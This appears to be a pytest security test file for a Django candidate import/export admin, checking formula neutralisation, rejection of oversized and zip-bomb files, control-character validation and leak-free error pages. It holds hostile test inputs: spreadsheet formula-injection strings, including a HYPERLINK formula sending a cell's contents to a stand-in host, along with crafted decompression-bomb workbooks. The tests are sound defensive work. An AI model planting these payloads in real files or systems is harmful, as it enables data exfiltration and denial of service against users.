"""Hostile files and values in the candidates' import and export (penetration test): formulas in the export,
files too large or too long, repeated lines, tracebacks on the import page, control characters in names."""

import csv
import datetime
import io
import logging
import re
import zipfile
from unittest import mock

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from candidates.models import Candidate, validate_single_line
from candidates.resources import UNEXPECTED_ERROR, CandidateResource
from candidates.roles import UCANSS_ADMINISTRATORS
from evaluations.models import Deliberation

pytestmark = pytest.mark.django_db

CSV_HEADER = (
    "Nom;Prénom;Date de naissance;Courriel;Organisme;Emploi;CQP;Voie;Pass validée le;"
    "Prem'ss validée le;Livret 2 reçu le;Manager (courriel);Tuteur (courriel)\n"
)
DURAND = "Durand;Chloé;12/05/1990;;CPAM de Paris;;GC;Formation;;;;;\n"


@pytest.fixture
def ucanss_admin(client):
    user = User.objects.create_user("gestion", password="x", is_staff=True)
    user.groups.add(Group.objects.get(name=UCANSS_ADMINISTRATORS))
    client.force_login(user)
    return client


def send(client, content, name="candidats.csv", file_format=0):
    upload = SimpleUploadedFile(name, content if isinstance(content, bytes) else content.encode("utf-8"))
    return client.post(
        reverse("admin:candidates_candidate_import"), {"import_file": upload, "format": file_format, "resource": 0}
    )


def line_errors(response):
    return {
        row.number: {column: [str(error) for error in errors] for column, errors in row.error_dict.items()}
        for row in response.context["result"].invalid_rows
    }


def refused_whole(response):
    """The page shows no preview, only the message(s) about the file; never a traceback nor a server path."""
    page = response.content.decode()
    assert response.status_code == 200 and response.context.get("confirm_form") is None
    for leak in ("Traceback", "/work/", ".py", "File &quot;"):
        assert leak not in page, leak
    return page


# --- 1. Names and titles: one line of text ---------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["Yanis\n;}} body{x}", "Ya\tnis", "Ya\rnis", "Ya\x00nis", "Ya\u202enis", "Ya\u200bnis", "Ya\u2028nis"]
)
def test_a_name_or_a_title_with_a_control_character_is_refused(value):
    with pytest.raises(ValidationError) as refusal:
        validate_single_line(value)
    assert refusal.value.messages == [
        "Une seule ligne de texte : ni retour à la ligne, ni tabulation, ni autre caractère de contrôle."
    ]


@pytest.mark.parametrize("value", ["Lætitia", "N'Diaye", "Jean-Éric", "O’Connor", "Müller Ōta", "Nguyễn", "محمد"])
def test_names_of_every_script_are_accepted(value):
    validate_single_line(value)


def test_the_models_check_names_and_the_deliberation_title(world):
    candidate = world.candidate
    candidate.first_name, candidate.last_name, candidate.birth_name = "Léa\n", "Mar\ttin", "Du\u2029rand"
    with pytest.raises(ValidationError) as refusal:
        candidate.full_clean()
    assert set(refusal.value.error_dict) == {"first_name", "last_name", "birth_name"}
    world.president.first_name = "Paul\r"
    with pytest.raises(ValidationError) as refusal:
        world.president.full_clean()
    assert set(refusal.value.error_dict) == {"first_name"}
    deliberation = Deliberation(title="Délibération\n;}} .draft{display:none}")
    with pytest.raises(ValidationError) as refusal:
        deliberation.clean_fields(exclude=["held_on", "members_present", "president"])
    assert set(refusal.value.error_dict) == {"title"}


def test_the_admin_form_refuses_a_name_with_a_control_character(ucanss_admin, world):
    url = reverse("admin:candidates_candidate_change", args=[world.candidate.pk])
    data = {
        "last_name": "Martin",
        "first_name": "Léa\u0085Robert",  # NEXT LINE: not stripped by the form, refused by the model
        "birth_date": "1990-05-12",
        "organisation": world.paris.pk,
        "certification": world.gc.pk,
        "route": "training",
    }
    response = ucanss_admin.post(url, data)
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["first_name"] == [
        "Une seule ligne de texte : ni retour à la ligne, ni tabulation, ni autre caractère de contrôle."
    ]
    world.candidate.refresh_from_db()
    assert world.candidate.first_name == "Léa"


def test_the_import_refuses_a_name_with_a_control_character(ucanss_admin, world):
    response = send(ucanss_admin, CSV_HEADER + '"Du\trand";Chloé;12/05/1990;;CPAM de Paris;;GC;Formation;;;;;\n')
    assert response.context.get("confirm_form") is None
    assert line_errors(response) == {
        2: {"Nom": ["Une seule ligne de texte : ni retour à la ligne, ni tabulation, ni autre caractère de contrôle."]}
    }
    assert Candidate.objects.count() == 1


# --- 2. Formulas in the export ----------------------------------------------------------------------------

HOSTILE = {
    "last_name": "=1+1",
    "first_name": "@SUM(1+1)",
    "birth_name": "\t=1+1",
    "birth_city": "-2+3",
    "birth_country": '==HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "job_title": "+1+1",
    "email": "\r=1+1",
}


def export(client, file_format):
    fields = {f"candidateresource_{name}": True for name in CandidateResource.fields}
    response = client.post(
        reverse("admin:candidates_candidate_export"), {"format": file_format, "resource": 0, **fields}
    )
    assert response.status_code == 200
    return response.getvalue()


def test_the_csv_export_neutralises_every_formula(ucanss_admin, world):
    Candidate.objects.filter(pk=world.candidate.pk).update(**HOSTILE)  # as if entered before any check
    rows = list(csv.DictReader(io.StringIO(export(ucanss_admin, 0).decode("utf-8-sig")), delimiter=";"))
    columns = {name: field.column_name for name, field in CandidateResource.fields.items()}
    assert [{name: rows[0][columns[name]] for name in HOSTILE}] == [
        {name: "'" + value for name, value in HOSTILE.items()}
    ]


def test_the_excel_export_holds_no_formula(ucanss_admin, world):
    Candidate.objects.filter(pk=world.candidate.pk).update(**HOSTILE)
    sheet = openpyxl.load_workbook(io.BytesIO(export(ucanss_admin, 1))).active
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    cells = {cell.value: value for cell, value in zip(header, row, strict=True)}
    assert [cell.coordinate for cell in sheet._cells.values() if cell.data_type == "f"] == []
    for name, value in HOSTILE.items():
        cell = cells[CandidateResource.fields[name].column_name]
        assert (cell.data_type, cell.value) == ("s", "'" + value), name


# --- 3. Files too large or too long: refused before any row is read ------------------------------------------


@pytest.fixture
def rows_read():
    with mock.patch.object(CandidateResource, "import_row", autospec=True) as import_row:
        yield import_row


def test_a_csv_of_10001_lines_is_refused_before_any_row_is_read(ucanss_admin, world, rows_read):
    rows = "".join(f"Nom{n};Prénom;12/05/1990;;CPAM de Paris;;GC;Formation;;;;;\n" for n in range(10_001))
    page = refused_whole(send(ucanss_admin, CSV_HEADER + rows))
    assert "Le fichier compte 10001 lignes : 5000 au plus par import ; découpez-le." in page
    assert rows_read.call_count == 0
    assert Candidate.objects.count() == 1


def test_an_excel_file_of_40000_rows_is_refused_before_any_row_is_read(ucanss_admin, world, rows_read):
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(CSV_HEADER.strip().split(";"))
    for n in range(40_000):
        sheet.append([f"Nom{n}", "Prénom", datetime.date(1990, 5, 12), None, "CPAM de Paris", None, "GC"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    page = refused_whole(send(ucanss_admin, buffer.getvalue(), name="candidats.xlsx", file_format=1))
    assert "Le fichier compte plus de 5000 lignes : 5000 au plus par import ; découpez-le." in page
    assert rows_read.call_count == 0
    assert Candidate.objects.count() == 1


def test_a_file_over_5_mb_is_refused_before_it_is_read(ucanss_admin, world, rows_read):
    content = (CSV_HEADER + DURAND).encode() + b" " * (5 * 1024 * 1024)
    with mock.patch("candidates.admin.ImportExportMixin.write_to_tmp_storage") as stored:
        page = refused_whole(send(ucanss_admin, content))
    assert "Le fichier dépasse 5,0\xa0Mio, la taille maximale d&#x27;un import ; découpez-le." in page
    assert stored.call_count == 0 and rows_read.call_count == 0
    assert Candidate.objects.count() == 1


def test_an_excel_file_that_unpacks_beyond_20_mb_is_refused_unread(ucanss_admin, world, rows_read):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024 + 1))
    assert len(buffer.getvalue()) < 100_000
    page = refused_whole(send(ucanss_admin, buffer.getvalue(), name="candidats.xlsx", file_format=1))
    assert "Le fichier décompressé dépasse 20,0\xa0Mio ; découpez-le." in page
    assert rows_read.call_count == 0


def excel_file(sheet_data, dimension=""):
    """A real workbook whose first sheet's rows are replaced by `sheet_data` (XML written by hand)."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["Nom"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    rewritten = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(rewritten, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                head, _, rest = data.decode().partition("<sheetData>")
                head = re.sub(r"<dimension[^>]*/>", dimension, head)
                data = (head + "<sheetData>" + sheet_data + "</sheetData>" + rest.partition("</sheetData>")[2]).encode()
            target.writestr(member, data)
    return rewritten.getvalue()


HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c></row>'


@pytest.mark.parametrize(
    "sheet_data, dimension, message",
    [
        (HEADER_ROW + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>', "", "plus de 5000 lignes"),
        (HEADER_ROW + '<row r="2"><c r="XFD2"><v>1</v></c></row>', "", "plus de 50 colonnes"),
        (HEADER_ROW, '<dimension ref="A1:XFD2"/>', "plus de 50 colonnes"),
        (HEADER_ROW + "<row r='2'>" + '<c r="A2"/>' * 700_000 + "</row>", "", "trop de données pour un seul import"),
    ],
    ids=["row far below", "column far right", "dimension too wide", "too many elements"],
)
def test_an_excel_file_that_would_unfold_is_refused_unread(
    ucanss_admin, world, rows_read, sheet_data, dimension, message
):
    page = refused_whole(send(ucanss_admin, excel_file(sheet_data, dimension), name="candidats.xlsx", file_format=1))
    assert message in page
    assert rows_read.call_count == 0


# --- 4. Repeated lines, and what the page shows of an error ----------------------------------------------


def test_two_identical_lines_are_reported_not_skipped(ucanss_admin, world):
    response = send(ucanss_admin, CSV_HEADER + DURAND + DURAND)
    assert response.context.get("confirm_form") is None
    assert line_errors(response) == {3: {"Nom": ["Même candidat (nom, prénom, date de naissance) qu'à la ligne 2."]}}
    assert Candidate.objects.count() == 1


def test_a_candidate_repeated_with_the_date_written_otherwise_is_reported(ucanss_admin, world):
    again = DURAND.replace("12/05/1990", "1990-05-12")
    response = send(ucanss_admin, CSV_HEADER + DURAND + again)
    assert line_errors(response) == {3: {"Nom": ["Même candidat (nom, prénom, date de naissance) qu'à la ligne 2."]}}


def test_a_known_candidate_unchanged_is_skipped_but_repeated_is_reported(ucanss_admin, world):
    preview = send(ucanss_admin, CSV_HEADER + DURAND)
    ucanss_admin.post(reverse("admin:candidates_candidate_process_import"), preview.context["confirm_form"].initial)
    assert Candidate.objects.filter(last_name="Durand").count() == 1
    response = send(ucanss_admin, CSV_HEADER + DURAND + DURAND)
    assert response.context.get("confirm_form") is None
    assert Candidate.objects.filter(last_name="Durand").count() == 1
    assert [row.import_type for row in response.context["result"].rows] == ["skip", "invalid"]
    assert line_errors(response) == {3: {"Nom": ["Même candidat (nom, prénom, date de naissance) qu'à la ligne 2."]}}


def test_a_file_without_the_identity_columns_says_which_in_french(ucanss_admin, world):
    page = refused_whole(send(ucanss_admin, "Nom;Courriel\nDurand;chloe@exemple.fr\n"))
    assert "Colonne absente du fichier : Prénom, Date de naissance (la première ligne nomme les colonnes)." in page
    assert Candidate.objects.count() == 1


def test_an_unexpected_error_on_a_line_shows_a_french_message_and_logs_no_personal_data(ucanss_admin, world, caplog):
    failure = RuntimeError(f"Durand Chloé at {__file__}")
    with mock.patch.object(CandidateResource, "save_instance", side_effect=failure):
        with caplog.at_level(logging.ERROR, logger="candidates.resources"):
            page = refused_whole(send(ucanss_admin, CSV_HEADER + DURAND))
    assert f"Numéro de ligne: 2 - {UNEXPECTED_ERROR}" in page.replace("&#x27;", "'")
    assert "Durand Chloé" not in page
    assert [record.getMessage().split(",")[0] for record in caplog.records] == [
        "candidate import: unexpected RuntimeError"
    ]
    assert "Durand" not in caplog.text
    assert Candidate.objects.count() == 1


def test_an_unexpected_error_on_the_whole_file_shows_a_french_message(ucanss_admin, world):
    with mock.patch.object(CandidateResource, "after_import", side_effect=KeyError("/work/main/secret.py")):
        page = refused_whole(send(ucanss_admin, CSV_HEADER + DURAND))
    assert str(UNEXPECTED_ERROR) in page.replace("&#x27;", "'")
    assert Candidate.objects.count() == 1
